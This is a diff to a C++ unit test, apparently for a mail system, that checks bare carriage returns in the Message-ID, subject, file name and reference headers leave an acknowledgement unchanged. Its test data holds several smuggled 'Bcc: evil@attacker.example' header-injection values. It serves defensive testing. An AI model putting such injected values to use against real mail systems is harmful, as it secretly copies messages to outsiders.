@@ -122,7 +122,9 @@ TEST(Injection, BareCrInMessageIdSubjectAndFileNameChangesNothingInTheAcknowledg
     TestMail clean = claudel("<control.1@client.example>", "same-pdf");
     TestMail hostile = claudel("<inject.1@client.example\rBcc: evil@attacker.example\r>", "same-pdf");
     hostile.subject = "PPO\rBcc: evil2@attacker.example\r";
-    hostile.files[0].name = "PP\rBcc: evil3@attacker.example\rO.pdf";
+    // A control character in a file name is dropped from the archived name
+    // (safe_file_name), which the acknowledgement lists: "PPO.pdf" as the control's.
+    hostile.files[0].name = "PP\rO.pdf";
     hostile.headers = {{"References", "<ok.0@client.example> <x\rBcc: evil4@attacker.example\r@y>"},
                        {"In-Reply-To", "<z\r\tBcc: evil5@attacker.example\r@y>"}};
     const std::string hostile_raw = build_test_mail(hostile);
